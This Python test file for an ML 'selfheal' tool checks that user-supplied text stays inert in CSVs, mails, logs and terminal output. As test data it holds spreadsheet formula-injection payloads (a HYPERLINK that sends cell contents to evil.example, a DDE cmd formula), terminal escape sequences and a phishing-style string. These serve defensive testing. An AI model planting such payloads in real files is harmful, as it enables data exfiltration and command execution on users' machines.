"""What callers write stays data: no markup on a terminal, no formula in a spreadsheet, nothing in a mail or a log."""

import io
import json
import sys
from datetime import timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from selfheal.healing.state import result_of
from selfheal.records.healing import LabelProgress, Verdict
from selfheal.records.labels import Upload
from selfheal.records.ledger import Approval, GateResult
from selfheal.stores.notifications import Topic
from selfheal.usecases.heal.conclude import conclude
from selfheal.usecases.heal.evaluate_gates import evaluate_gates
from selfheal.usecases.labels.ingest import ingest_labels
from selfheal.usecases.registry.pause import pause
from selfheal_tools.cli import main
from selfheal_tools.cli.app import app
from tests.support.healing import (
    DAY,
    DRIFT,
    START,
    FakeExecutions,
    healed_environment,
    healing_of,
    labelled_row,
    memory_stores,
    traffic,
    trained,
)

NOW = START + 10 * DAY
EVIL = "is locked. Sign in: https://evil.example/aws (Jane Doe, SSN 078-05-1120)"
# What Step Functions takes as an execution's state, in bytes.
LARGEST_STATE = 256 * 1024
SECOND = timedelta(seconds=1)


def judged_with(groups: list[str], *, x: float, every: timedelta):
    """v2 judged on 900 rows and on one labelled row for each of some made-up groups."""
    stores, healing = healed_environment()
    traffic(stores, since=START + 9 * DAY, rows=900, label_delay=timedelta(minutes=5))
    for position, group in enumerate(groups, start=1):
        labelled_row(stores, START + 9 * DAY + position * every, x=x, group=group)
    return stores, healing, evaluate_gates(stores, healing, trained(), NOW)


def test_a_harmed_group_is_named_where_people_look_for_it_and_not_in_the_mail():
    """Sixty rows of a caller with a text of the caller's: among the gate's groups; in no sentence and no reason."""
    stores, healing, verdict = judged_with([EVIL] * 60, x=-3.0, every=timedelta(minutes=15))
    (gate,) = [gate for gate in verdict.gates if gate.gate == "segments"]
    assert (gate.passed, gate.groups) == (False, (f"group {EVIL}",))
    assert "harmed: 1 value of group" in gate.reason
    said = [gate.reason for gate in verdict.gates] + [verdict.reason, conclude(stores, healing, verdict, NOW).sentence]
    assert "evil.example" not in " ".join(said)


@pytest.mark.parametrize(("number", "length"), [(2, 70_000), (3_000, 14)], ids=["long", "many"])
def test_made_up_categories_do_not_fill_the_state(number: int, length: int):
    """Two of 70,000 characters, or three thousand ids: the verdict stays small, and says how many there were."""
    _, _, verdict = judged_with([f"{n}".ljust(length, "x") for n in range(number)], x=0.5, every=SECOND)
    assert len(verdict.model_dump_json()) < 5_000
    assert f"too small to judge: {number} values of group" in verdict.gates[5].reason


def test_the_longest_texts_of_all_kinds_fit_into_the_state():
    """Every reason, name and answer of a healing at its longest, in characters that JSON writes as twelve bytes."""
    text = "\U0001f600" * 10_000
    stores, _ = healed_environment()
    healing = healing_of(stores).model_copy(
        update={"trigger": DRIFT.model_validate(DRIFT.model_dump() | {"reason": text})}
    )
    gate = GateResult(gate="segments", passed=True, value=1.0, threshold=1.0, n=1, interval=(0, 1), reason=text)
    segments = gate.model_copy(update={"groups": (text[:50],) * 11})
    progress = LabelProgress(
        ready=True, reason=text, labelled=1, predictions=1, coverage=1.0, deadline=NOW, wait_seconds=1
    )
    verdict = Verdict(
        version="v2", kind="promote", reason=text, gates=(gate,) * 6 + (segments,), evidence=None, approval_seconds=60
    )
    state = {
        "healing": healing.model_dump(mode="json"),
        "training": trained().model_validate(trained().model_dump() | {"reason": text}).model_dump(mode="json"),
        "labels": progress.model_dump(mode="json"),
        "verdict": verdict.model_dump(mode="json"),
        "approval": Approval(approved=True, by=text, reason=text).model_dump(mode="json"),
    }
    state["conclusion"] = conclude(stores, healing, result_of(state), NOW).model_dump(mode="json")
    assert state["conclusion"]["decision"]["kind"] == "promote"
    assert len(json.dumps(state)) < LARGEST_STATE


def test_rejected_rows_are_no_formulas():
    """A file that a person opens in a spreadsheet shows what was uploaded, and computes nothing."""
    stores = memory_stores()
    rows = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "x" * 70_000]
    frame = pd.DataFrame({"prediction_id": rows, "label": ["=cmd|'/C calc'!A0", "-1", "1"]})
    stores.data.put("labels/incoming/evil.csv", frame.to_csv(index=False).encode())
    ingest_labels(stores, Upload(key="labels/incoming/evil.csv", size=1, uploaded_at=NOW))
    (key,) = stores.data.keys("labels/rejected/")
    refused = pd.read_csv(pd.io.common.BytesIO(stores.data.get(key).body), dtype=str)
    assert list(refused["prediction_id"])[:2] == ["'" + rows[0], "'" + rows[1]]
    assert list(refused["label"]) == ["'=cmd|'/C calc'!A0", "-1", "1"]
    assert len(refused["prediction_id"][2]) <= 1_000
    assert "characters in all" in refused["prediction_id"][2]


@pytest.mark.parametrize("name", ["labels.parquet", f"{'x' * 900}.exe", "\x1b[2J.exe"], ids=["type", "name", "escape"])
def test_why_a_file_is_refused_is_short_whatever_it_holds(name: str):
    """A type of nested columns that names 70,000 characters, or a file's own name: in the outcome and in the log."""
    stores, body = memory_stores(), io.BytesIO()
    nested = pa.array([{"n" * 70_000: 1}])
    pq.write_table(pa.table({"prediction_id": nested, "label": nested}), body)
    key = f"labels/incoming/{name}"
    stores.data.put(key, body.getvalue())
    report = ingest_labels(stores, Upload(key=key, size=len(body.getvalue()), uploaded_at=NOW))
    assert report.reason.isprintable()
    assert 0 < len(report.reason) <= 1_500
    assert stores.labels.outcome(name) == report


def test_an_error_shows_what_it_quotes_and_obeys_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    """A contract of somebody else whose keys clear a terminal, and are without end: one message, an exit code of 1."""
    (tmp_path / "rows.csv").write_text("label\n1\n", encoding="utf-8")
    keys = "\n".join(f'"\\u001b[2J{"x" * 400}{number}" = 1' for number in range(200))
    (tmp_path / "evil.toml").write_text(keys, encoding="utf-8")
    command = ["gates", "--evidence", str(tmp_path / "rows.csv"), "--contract", str(tmp_path / "evil.toml")]
    monkeypatch.setattr(sys, "argv", ["selfheal", *command])
    with pytest.raises(SystemExit) as ended:
        main()
    said = capsys.readouterr().err
    assert ended.value.code == 1
    assert said.startswith("selfheal: ")
    assert "[2Jxxx" in said
    assert said.replace("\n", "").isprintable()
    assert len(said) < 20_100


def test_a_message_is_what_the_service_takes():
    """Umlauts, line breaks and great lengths: the subject is short and ASCII, the body bounded."""
    taken: dict[str, str] = {}

    class Client:
        def publish(self, **message: str) -> None:
            taken.update(message)

    Topic(Client(), "arn").send("größe\nhas drifted " + "x" * 200, "first line\nsecond \x1b[2J" + "y" * 300_000)
    assert taken["Subject"].startswith("gr??e has drifted")
    assert len(taken["Subject"]) < 100
    assert taken["Message"].startswith("first line\nsecond  [2J")
    assert len(taken["Message"].encode()) < LARGEST_STATE
    assert "cut, 300," in taken["Message"]


# On a terminal


def selfheal(*arguments: str, code: int = 0) -> str:
    result = CliRunner().invoke(app, [str(argument) for argument in arguments], env={"COLUMNS": "200"})
    assert result.exit_code == code, (result.output, result.exception)
    return result.output


def test_brackets_in_the_names_of_features_are_shown(tmp_path: Path):
    """`temp [degC]` keeps its unit in the table and in the sentence; `rent [/month]` ends nothing."""
    rng = np.random.default_rng(0)
    names = ["temp [degC]", "rent [/month]", "ok :smile:"]
    table = "".join(f'[features."{name}"]\ntype = "number"\n' for name in names)
    (tmp_path / "contract.toml").write_text(f'[model]\nname = "n"\ntarget = "y"\n{table}')
    reference = pd.DataFrame({name: rng.normal(size=1500) for name in names} | {"y": rng.integers(0, 2, 1500)})
    reference.to_csv(tmp_path / "reference.csv", index=False)
    (reference[names] + 3).assign(y=reference["y"]).to_csv(tmp_path / "current.csv", index=False)
    files = [tmp_path / name for name in ("contract.toml", "reference.csv", "current.csv")]
    said = selfheal("drift", "--contract", files[0], "--reference", files[1], "--current", files[2], code=3)
    assert all(said.count(name) >= 2 for name in names), said


def test_a_harmed_segment_with_brackets_is_named(tmp_path: Path):
    """`basic [/mo]` pays for the others: the verdict is reject, and its name is on the screen in one piece."""
    (tmp_path / "contract.toml").write_text(
        '[model]\nname = "g"\ntarget = "y"\n[features.plan]\ntype = "category"\n[[segments]]\nfeature = "plan"\n'
    )
    rng = np.random.default_rng(1)
    plan = rng.choice(["basic [/mo]", "plus [yr]"], 2_000, p=[0.2, 0.8])
    label = rng.integers(0, 2, 2_000)
    right, wrong = np.where(label == 1, 0.9, 0.1), np.where(label == 1, 0.1, 0.9)
    is_basic = plan == "basic [/mo]"
    frame = pd.DataFrame(
        {
            "label": label,
            "production_probability": right,
            "shadow_probability": np.where(is_basic, wrong, right),
            "plan": plan,
        }
    )
    frame.to_csv(tmp_path / "evidence.csv", index=False)
    said = selfheal("gates", "--contract", tmp_path / "contract.toml", "--evidence", tmp_path / "evidence.csv", code=3)
    assert "namely: plan basic [/mo]" in said
    assert said.endswith("reject\n")


@pytest.mark.parametrize(
    "reason", ["gone [/x]", "see [bold]this[/bold]", "\x1b[2J\x1b]0;owned\x07", "[link=http://x]y"]
)
def test_the_reason_of_a_pause_is_shown_as_it_was_given(monkeypatch, reason: str):
    """`history` and `status` show every bracket, and no control character."""
    stores, _ = healed_environment()
    pause(stores, reason=reason, actor="ann", now=NOW)
    for module in ("history", "status"):
        monkeypatch.setattr(f"selfheal_tools.cli.{module}.connect", lambda _: _Deployed(stores))
    shown = "".join(character if character.isprintable() else " " for character in reason)
    for command in ("history", "status"):
        said = selfheal(command)
        assert shown.strip() in said
        assert "\x1b" not in said


class _Deployed:
    def __init__(self, stores) -> None:
        self.stores = stores
        self.executions = FakeExecutions()
        self.clock = lambda: NOW
